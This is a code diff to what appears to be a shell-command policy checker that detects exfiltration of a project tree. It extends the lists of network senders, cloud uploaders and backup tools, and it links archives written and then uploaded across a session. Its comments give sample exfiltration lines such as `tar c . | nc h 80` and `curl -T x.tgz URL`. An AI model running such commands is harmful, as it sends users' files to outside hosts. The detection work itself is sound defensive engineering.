@@ -44,7 +44,7 @@ from engine.policy.programs import ProgramTable
 from engine.policy.regexes import Finder, RegexError, RegexTimeout, glob_in_word
 from engine.policy.rulematch import Piece, hit_texts, pieces, strict_hit
 from engine.policy.shell import Analyzer, Command, TooComplex, may_name_directory_tilde, parse
-from engine.policy.trees import FOLLOWERS, RECURSIVE, followed_words, recursive_words, tree_landings
+from engine.policy.trees import FOLLOWERS, RECURSIVE, TREE_READERS, followed_words, recursive_words, tree_landings
 from engine.records import Record, replace
 
 TYPE_CHECKING = False  # not typing's: a guard/check start does not import typing (mypy reads it as typing's)
@@ -664,6 +664,8 @@ class Evaluator:
                     except ShellSyntaxError:
                         commands = []
                 unread = tuple(analyzer.unread)
+            if session is not None and session.files.archives:
+                commands = _sent_archives(commands, session, self.policy.programs)
             found = self._match(commands, text, index, budget.deadline if budget is not None else None, view)
             if found is None:
                 return self._flat_scan(text, index, lazy.judged), "judging it took longer than its time budget"
@@ -1336,15 +1338,12 @@ def _through_link(command: Command, argv: tuple[str, ...]) -> Command:
     )
 
 
-# Programs that send what they read on stdin to another host (`tar c . | nc h 80`), and the readers of a
-# whole tree whose output they may send (what the project_exfiltration rows judge).
+# Programs that send what they read on stdin, or a file named to them, to another host (`tar c . | nc h 80`,
+# `curl -T x.tgz URL`), whose input from a tree reader (trees.TREE_READERS) the project_exfiltration rows judge.
 _NETWORK_SENDERS = frozenset(
     {"nc", "ncat", "netcat", "socat", "curl", "wget", "ssh", "openssl", "telnet", "http", "https", "ftp", "sftp"}
     | {"scp", "rsync", "mail", "mailx", "sendmail", "gh", "aws", "gsutil", "rclone", "s3cmd", "busybox", "pwncat"}
-)
-_TREE_READERS = frozenset(
-    {"tar", "gtar", "bsdtar", "zip", "7z", "7za", "7zz", "cpio", "pax", "grep", "egrep", "fgrep", "ugrep", "rg", "ag"}
-    | {"ack", "find", "cat", "gzip", "xz", "zstd", "base64"}
+    | {"mc", "az", "oci", "b2", "gcloud", "azcopy", "croc", "wormhole", "magic-wormhole", "sendme", "portal", "xh"}
 )
 # An inline program (Command.code) that opens a connection: `tar c . | python3 -c 'import socket; ...'`.
 _NETWORK_CODE = re.compile(
@@ -1356,6 +1355,17 @@ _NETWORK_CODE = re.compile(
 # tree (`scp -r h:x .`, `aws s3 sync s3://b .`) is not one.
 _REMOTE_COPIERS = frozenset({"scp", "rsync", "sftp", "aws", "gsutil", "gcloud", "rclone", "azcopy", "s3cmd", "b2"})
 _PEER_SENDERS = frozenset({"croc", "wormhole", "magic-wormhole", "sendme", "portal"})  # `croc send .`
+# Uploaders of a folder named by an option (open35): `az storage blob upload-batch -s .`, `az storage blob
+# sync -s .`, `oci os object bulk-upload --src-dir .`, `oci os object sync --src-dir .` (a download's
+# verb is another: `download-batch`, `bulk-download`); `az storage copy` to a URL (see _az_copies_up)
+_FOLDER_UPLOADS = {"az": frozenset({"upload-batch", "sync"}), "oci": frozenset({"bulk-upload", "sync"})}
+_URL = re.compile(r"[A-Za-z][\w+.-]*://")
+# Backup programs whose repository may be another host's (see _backs_up_away); restic's backends
+_BACKUPS = frozenset({"borg", "restic", "duplicity"})
+_BACKEND = re.compile(r"[a-z][a-z0-9]*:")
+# The MinIO client's copies: a target that is no local path (`alias/bucket`) is an alias's
+_MC_COPIES = frozenset({"cp", "mirror", "put", "mv"})
+_MC_LOCAL = re.compile(r"[/.~]|[^/]*$")
 _REMOTE_WORD = re.compile(r"[A-Za-z][\w+.-]*://|[^-/.~=][^/=]*:")
 
 
@@ -1364,6 +1374,37 @@ def _to_remote(argv: tuple[str, ...]) -> bool:
     for word in reversed(argv[1:]):
         if not word.startswith("-"):
             return _REMOTE_WORD.match(word) is not None
+    return False
+
+
+def _mc_upload(argv: tuple[str, ...]) -> bool:
+    """Whether an `mc cp|mirror|put|mv` copies to an alias (its last word no local path: `alias/bucket`)."""
+    words = [w for w in argv[1:] if not w.startswith("-")]
+    return len(words) > 2 and words[0] in _MC_COPIES and _MC_LOCAL.match(words[-1]) is None
+
+
+def _backs_up_away(name: str, argv: tuple[str, ...]) -> bool:
+    """Whether a backup program writes to another host's repository: `borg create ssh://h/r::a .` or
+    `h:r::a`, `restic -r sftp:h:/r backup .` (any repository of a backend: `s3:`, `rest:`, `rclone:`),
+    `duplicity . sftp://h/x` (a URL that is no `file://`)."""
+    if name == "borg":
+        return "create" in argv and any(_REMOTE_WORD.match(w.partition("::")[0]) for w in argv if "::" in w)
+    if name == "restic":
+        repos = [argv[i + 1] for i, w in enumerate(argv[:-1]) if w in ("-r", "--repo")]
+        repos += [w.partition("=")[2] for w in argv if w.startswith("--repo=")]
+        return "backup" in argv and any(_BACKEND.match(r) and not r.startswith("local:") for r in repos)
+    words = [w for w in argv[1:] if not w.startswith("-")]
+    return bool(words) and _URL.match(words[-1]) is not None and not words[-1].startswith("file:")
+
+
+def _az_copies_up(argv: tuple[str, ...]) -> bool:
+    """Whether an `az storage copy` copies to a URL (`-d https://…`), not from one into a folder."""
+    for i, word in enumerate(argv):
+        value = argv[i + 1] if word in ("-d", "--destination") and i + 1 < len(argv) else ""
+        if word.startswith("--destination="):
+            value = word.partition("=")[2]
+        if value:
+            return _URL.match(value) is not None
     return False
 
 
@@ -1380,7 +1421,7 @@ def _sends_away(commands: list[Command]) -> bool:
         name = command.name
         if name in _NETWORK_SENDERS or (command.code is not None and _NETWORK_CODE.search(command.code) is not None):
             senders.append(command)  # an interpreter's inline program that opens a connection too
-        if not fed and not command.fed_by.isdisjoint(_TREE_READERS):
+        if not fed and not command.fed_by.isdisjoint(TREE_READERS):
             fed = True
         if name in _REMOTE_COPIERS and _to_remote(command.argv):
             return True
@@ -1388,13 +1429,21 @@ def _sends_away(commands: list[Command]) -> bool:
             return True  # `tar cf host:x .`: the archive written over rsh (rmt)
         if name in _PEER_SENDERS and "send" in command.argv:
             return True
-        if name in _TREE_READERS and any(t.startswith(("/dev/tcp/", "/dev/udp/")) for _, t in command.redirects):
+        if name in _FOLDER_UPLOADS and not _FOLDER_UPLOADS[name].isdisjoint(command.argv):
+            return True
+        if name == "mc" and _mc_upload(command.argv):
+            return True
+        if name == "az" and "copy" in command.argv and _az_copies_up(command.argv):
+            return True
+        if name in _BACKUPS and _backs_up_away(name, command.argv):
+            return True
+        if name in TREE_READERS and any(t.startswith(("/dev/tcp/", "/dev/udp/")) for _, t in command.redirects):
             return True
     if not senders:
         return False
     if fed:
         return True
-    written = {w for c in commands if c.name in _TREE_READERS for w in c.argv[1:] if w[:1] not in ("", "-")}
+    written = {w for c in commands if c.name in TREE_READERS for w in c.argv[1:] if w[:1] not in ("", "-")}
     if not written:
         return False
     for sender in senders:
@@ -1403,6 +1452,30 @@ def _sends_away(commands: list[Command]) -> bool:
         if any(target in written for op, target in sender.redirects if op in ("<", "<>")):
             return True
     return False
+
+
+def _sent_archives(commands: list[Command], session: SessionView, programs: ProgramTable) -> list[Command]:
+    """The commands, and for each file a network sender reads that an earlier call of the session wrote
+    with a tree reader (`tar czf /tmp/x.tgz .`, then `curl -T /tmp/x.tgz URL`: SessionFiles.archives),
+    that reader again, writing the file from the words it read: the line is judged as `tar czf x.tgz
+    . && curl -T x.tgz URL` is (_sends_away: a sender given a tree reader's file)."""
+    out = commands
+    for command in commands:
+        if command.name not in _NETWORK_SENDERS:
+            continue
+        cwd = command.cwd or ""
+        words = [w for arg in command.argv[1:] for w in (file_operand(arg), arg.partition("=")[2]) if w]
+        words += [target for op, target in command.redirects if op in ("<", "<>")]
+        for word in dict.fromkeys(words):
+            if word.startswith("-"):
+                continue
+            sources = session.archive_sources(posixpath.join(cwd, word))
+            if sources:
+                argv = ("tar", "-c", "-f", word, "--", *sources)
+                flags, via, tar = (False,) * len(argv), (*command.via, "session"), programs.get("tar")
+                made = Command("tar", argv, flags, (), "", frozenset(), via, None, command.depth, command.cwd, tar)
+                out = [*out, made]
+    return out
 
 
 def _through_tree_links(commands: list[Command], view: View, unwalked: list[Match]) -> list[Command]:
